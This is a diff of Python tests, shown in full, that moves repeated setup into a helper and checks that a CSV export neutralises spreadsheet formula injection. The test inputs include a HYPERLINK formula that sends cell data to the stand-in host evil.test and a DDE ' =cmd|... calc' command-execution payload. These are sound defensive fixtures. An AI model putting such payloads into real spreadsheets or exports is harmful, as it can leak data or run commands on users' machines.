@@ -116,16 +116,21 @@ def test_an_entry_published_before_the_check_leaves_every_feed(engine, config, s
     assert all(e.removal_reason.startswith("not a valid name: ") for e in withdrawn)
 
 
-def test_formula_cells_are_neutralised_in_the_csv_feed(engine, config, seed):
-    reasons = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(1)", "\tx", "\rx"]
+def publish_with_reasons(engine, seed, reasons: list[str]) -> None:
+    """Platforms site0.test, site1.test ... confirmed with these reasons (as officers typed them), published."""
     for n in range(len(reasons)):
         seed.platform(f"site{n}.test")
-    with session_scope(engine) as session:  # the officers' reasons, as typed
+    with session_scope(engine) as session:
         for decision in session.exec(select(Decision).where(Decision.action == "confirm")):
             n = int(decision.reason.removeprefix("confirmed site").removesuffix(".test"))
             decision.reason = reasons[n]
             session.add(decision)
     seed.sync()
+
+
+def test_formula_cells_are_neutralised_in_the_csv_feed(engine, config, seed):
+    reasons = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(1)", "\tx", "\rx"]
+    publish_with_reasons(engine, seed, reasons)
     rows = list(csv.DictReader(io.StringIO(every_artefact(engine, config)["csv"], newline="")))
     assert sorted(row["reason"] for row in rows) == sorted("'" + reason for reason in reasons)
     # numbers stay numbers; names and digests untouched
@@ -138,14 +143,7 @@ def test_formulas_behind_leading_blanks_and_line_breaks_in_cells_stay_text(engin
     """Spreadsheets that trim cells on import read " =cmd|..." as a formula; a line break or NUL
     first is neutralised too. A reason spanning lines stays one cell of one row for the csv module."""
     reasons = [" =cmd|' /C calc'!A0", "\n=1+2", "\u3000@SUM(1)", "\0=HYPERLINK(1)", "first line\r\n=second line"]
-    for n in range(len(reasons)):
-        seed.platform(f"site{n}.test")
-    with session_scope(engine) as session:
-        for decision in session.exec(select(Decision).where(Decision.action == "confirm")):
-            n = int(decision.reason.removeprefix("confirmed site").removesuffix(".test"))
-            decision.reason = reasons[n]
-            session.add(decision)
-    seed.sync()
+    publish_with_reasons(engine, seed, reasons)
     rows = list(csv.DictReader(io.StringIO(every_artefact(engine, config)["csv"], newline="")))
     assert len(rows) == len(reasons)
     by_value = {row["value"]: row["reason"] for row in rows}
